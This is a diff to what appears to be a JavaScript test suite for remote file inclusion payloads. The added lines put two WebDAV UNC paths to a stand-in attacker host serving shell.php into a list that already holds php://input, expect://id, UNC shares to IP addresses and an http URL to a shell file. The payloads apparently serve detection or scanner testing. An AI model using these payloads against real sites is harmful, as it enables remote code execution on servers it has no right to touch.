@@ -176,6 +176,9 @@ describe('RFI pack', () => {
       ['php://input', 'q'],
       ['expect://id', 'q'],
       ['\\\\198.51.100.7\\share\\shell.php', 'q'],
+      // Windows' WebDAV redirector: the share over HTTPS, on a port.
+      ['\\\\evil-dav.example.net@SSL\\DavWWWRoot\\shell.php', 'page'],
+      ['\\\\evil-dav.example.net@SSL@8443\\DavWWWRoot\\shell.php', 'page'],
       // An address whose first digits read as an octal escape once decoded.
       ['\\\\45.9.148.99\\share\\shell.php', 'template'],
       ['http://evil.example/shell.txt', 'include_path'],
